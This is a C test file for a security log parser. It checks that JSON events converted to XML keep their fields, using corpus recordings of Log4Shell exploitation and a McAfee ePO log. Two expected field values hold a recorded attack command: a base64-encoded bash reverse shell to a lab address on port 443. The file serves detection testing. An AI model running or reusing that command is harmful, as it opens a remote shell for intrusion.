/* SPDX-License-Identifier: Apache-2.0 */
/*
 * corpus_xml_test.c - Windows events as XML: the JSON twins of sigma-regression written as XML give the
 * fields that they give as JSON; Sysmon for Linux and auoms of windows-json-otrf/log4shell; ePO.
 */
#include "base/buf.h"
#include "event/corpus_int.h"

static void put_text(struct buf *out, struct str s)
{
	for (size_t i = 0; i < s.n; i++) {
		if (s.p[i] == '<')
			buf_add(out, STR("&lt;"));
		else if (s.p[i] == '&')
			buf_add(out, STR("&amp;"));
		else if (s.p[i] == '"')
			buf_add(out, STR("&quot;"));
		else if (s.p[i] == '\r' || s.p[i] == '\n' || s.p[i] == '\t')
			buf_printf(out, "&#%d;", s.p[i]);
		else
			buf_char(out, s.p[i]);
	}
}

static void put_scalar(struct buf *out, const struct json *v)
{
	int64_t n = 0;

	if (json_int(v, &n))
		buf_printf(out, "%lld", (long long)n);
	else
		put_text(out, json_str(v));
}

static void put_attrs(struct buf *out, const struct json *attrs)
{
	const struct json *v;
	struct str key;

	for (const void *it = json_next(attrs, NULL, &key, &v); it != NULL;
	     it = json_next(attrs, it, &key, &v)) {
		buf_printf(out, " %.*s=\"", STR_ARG(key));
		put_scalar(out, v);
		buf_char(out, '"');
	}
}

/* An element `name`, in EventData <Data Name="name">; depth by the corpus: at most four. */
static void put_element(struct buf *out, struct str name, const struct json *v, bool data)
{
	const struct json *child;
	struct str key;

	if (data) {
		buf_add(out, STR("<Data Name=\""));
		put_text(out, name);
		buf_add(out, STR("\""));
		name = STR("Data");
	} else {
		buf_printf(out, "<%.*s", STR_ARG(name));
	}
	put_attrs(out, json_get(v, "#attributes"));
	buf_char(out, '>');
	if (!json_is_object(v))
		put_scalar(out, v);
	for (const void *it = json_next(v, NULL, &key, &child); it != NULL;
	     it = json_next(v, it, &key, &child)) {
		if (str_eq(key, STR("#text")))
			put_scalar(out, child);
		else if (!str_eq(key, STR("#attributes")))
			put_element(out, key, child, str_eq(name, STR("EventData")));
	}
	buf_printf(out, "</%.*s>", STR_ARG(name));
}

static struct arena corpus_scratch; /* for names with a NUL behind */

static void same_fields(const char *name, const struct event *json, const struct event *xml)
{
	uint32_t n = 0;

	for (uint32_t i = 0; i < json->n_fields; i++) {
		const struct field *f = &json->fields[i];

		if (str_eq(f->name, STR("Event_xmlns")))
			continue;
		n++;
		struct arena a = corpus_scratch;
		corpus_check(name, xml, arena_str(&a, f->name).p, f->val);
	}
	if (!CHECK(name, n == xml->n_fields))
		printf("  %u fields, as XML %u\n", n, xml->n_fields);
	CHECK(name, json->time == xml->time && json->outcome == xml->outcome &&
			    json->direction == xml->direction && !xml->partial);
}

struct twins {
	struct reader *json, *xml;
	unsigned n;
};

static bool twin(void *ctx, const char *path, const char *name)
{
	struct twins *t = ctx;
	struct arena a = corpus_whole;
	struct buf out = BUF(16 << 20);
	struct str rest, record;
	bool cut;

	if (!str_ends(str_of(name), STR(".json")))
		return true;
	if (!CHECK(name, file_load(&a, AT_FDCWD, path, (size_t)16 << 20, &rest, NULL)))
		return true;
	while (records_next(&rest, true, &record, &cut)) {
		struct arena b = a;
		struct event json, xml;
		struct json *v = NULL;

		CHECK(name, json_parse(record, record.n, &v, NULL));
		buf_clear(&out);
		put_element(&out, STR("Event"), json_get(v, "Event"), false);
		json_free(v);
		reader_read(t->json, &b, record, &json);
		reader_read(t->xml, &b, buf_str(&out), &xml);
		CHECK(name, strcmp(formats[xml.format].name, "xml") == 0);
		corpus_scratch = b;
		same_fields(name, &json, &xml);
		t->n++;
	}
	buf_free(&out);
	return true;
}

/* Every record of the file is of that format and tells time and host; the first one that holds the
 * words gives the field. */
#define SHELL "windows-json-otrf/log4shell/"
#define SYSMON SHELL "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
#define AUOMS \
	SHELL "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
#define WINDOWS SHELL "sysmon_log4shell_cve2021_44228_java_serialized_object_2022-05-13045800.json"
#define EPO "logs-appliances/mcafee-trellix/wazuh/mcafee_epo.ini"

static const struct {
	const char *file, *format;
	unsigned records, partial; /* partial: cut off by what carried them */
} files[] = {
	{ SYSMON, "xml", 93, 1 },
	{ AUOMS, "audit", 50, 0 },
	{ WINDOWS, "json", 487, 0 },
	{ EPO, "xml", 1, 0 },
};

static const struct {
	const char *file, *words, *field;
	struct str val;
} facts[] = {
	{ SYSMON, "bash -c {echo", "EventID", STR("1") },
	{ SYSMON, "bash -c {echo", "CommandLine",
	  STR("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|"
	      "{bash,-i}") },
	{ SYSMON, "bash -c {echo", "ParentImage",
	  STR("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java") },
	{ SYSMON, "bash -c {echo", "user.name", STR("tomcat") },
	{ SYSMON, "bash -c {echo", "process.executable", STR("/bin/bash") },
	{ SYSMON, "bash -c {echo", "host.name", STR("UBUNTU5") },
	{ SYSMON, "e245754", "winlog.channel", STR("Linux-Sysmon/Operational") },
	{ AUOMS, "success=yes", "command",
	  STR("bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}"
	      "|{bash,-i}\"") },
	{ AUOMS, "success=yes", "SYSCALL", STR("execve") },
	{ AUOMS, "success=yes", "path_name", STR("/lib64/ld-linux-x86-64.so.2") },
	{ AUOMS, "success=yes", "user.name", STR("tomcat") },
	{ AUOMS, "success=yes", "process.executable", STR("/bin/bash") },
	{ AUOMS, "success=yes", "event.outcome", STR("success") },
	{ AUOMS, "success=yes", "host.name", STR("UBUNTU5") },
	{ AUOMS, "success=no", "event.outcome", STR("failure") },
	{ WINDOWS, "DestinationPort", "destination.port", STR("8080") },
	{ EPO, "EPOevent", "host.name", STR("WAW-URSZULAL1") },
	{ EPO, "EPOevent", "event.outcome", STR("failure") },
	{ EPO, "EPOevent", "user.target.name", STR("UrszulaL1") },
};

static struct str sample(struct str line)
{
	size_t eq = str_starts(line, STR("log ")) ? str_find(line, STR(" = ")) : line.n;

	return eq < line.n ? str_skip(line, eq + 3) : line;
}

static void check_files(struct reader *r)
{
	for (size_t i = 0; i < COUNT(files); i++) {
		struct arena a = corpus_whole;
		struct str rest = corpus_file(&a, files[i].file), line;
		unsigned n = 0, good = 0, partial = 0;
		bool ini = str_ends(str_of(files[i].file), STR(".ini"));

		while (str_line(&rest, &line)) {
			struct arena b = a;
			struct event ev;

			if (line.n == 0 || (ini && !str_starts(line, STR("log "))))
				continue;
			reader_read(r, &b, sample(line), &ev);
			n++;
			good += strcmp(formats[ev.format].name, files[i].format) == 0 &&
				ev.time_told && event_ecs(&ev, ECS_HOST_NAME).n > 0;
			partial += ev.partial;
		}
		if (!CHECK(files[i].file,
			   n == files[i].records && good == n && partial == files[i].partial))
			printf("  %u records, %u good, %u partial\n", n, good, partial);
	}
}

static void check_facts(struct reader *r)
{
	for (size_t i = 0; i < COUNT(facts); i++) {
		struct arena a = corpus_whole;
		struct str rest = corpus_file(&a, facts[i].file), line = { NULL, 0 };
		struct event ev;

		while (str_line(&rest, &line) && str_find(line, str_of(facts[i].words)) == line.n)
			;
		reader_read(r, &a, sample(line), &ev);
		corpus_check(facts[i].words, &ev, facts[i].field, facts[i].val);
	}
}

int main(void)
{
	struct read_ctx ctx = { .now = INT64_C(1773118800000000) };
	struct twins t = { reader_new(&ctx), reader_new(&ctx), 0 };
	char path[4096];

	if (corpus_open("Windows events as XML")) {
		snprintf(path, sizeof path, "%s/sigma-regression", test_corpus());
		CHECK("sigma-regression",
		      file_walk(path, &(struct walk){ .fn = twin, .ctx = &t }) && t.n >= 93);
		printf("sigma-regression as XML: %u events\n", t.n);
		check_files(t.xml);
		check_facts(t.xml);
		corpus_close();
	}
	reader_free(t.json);
	reader_free(t.xml);
	return TEST_REPORT();
}
